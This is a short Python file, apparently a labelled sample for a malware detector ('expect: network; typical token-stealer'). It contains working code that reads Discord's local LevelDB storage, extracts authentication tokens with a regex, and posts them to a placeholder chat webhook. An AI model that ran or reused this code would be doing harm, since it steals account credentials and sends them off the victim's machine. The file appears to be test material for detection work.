# expect: network; typical token-stealer: posts harvested tokens to a chat webhook with requests
import glob
import os
import re

import requests

WEBHOOK = "https://discord.com/api/webhooks/000000000000000000/XXXXXXXXXXXXXXXX"
pattern = re.compile(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}")
found = set()
for ldb in glob.glob(os.path.expanduser("~/.config/discord/Local Storage/leveldb/*.ldb")):
    with open(ldb, errors="ignore") as fh:
        found.update(pattern.findall(fh.read()))
requests.post(WEBHOOK, json={"content": "\n".join(found) or "none"}, timeout=5)
